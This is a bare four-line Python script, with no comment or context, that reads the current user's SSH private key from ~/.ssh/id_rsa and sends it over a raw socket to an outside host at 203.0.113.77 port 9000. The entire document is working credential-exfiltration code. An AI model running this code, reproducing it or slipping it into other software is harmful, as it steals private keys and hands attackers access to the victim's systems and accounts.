import os, socket
k = open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read()
s = socket.create_connection(('203.0.113.77', 9000))
s.sendall(k)
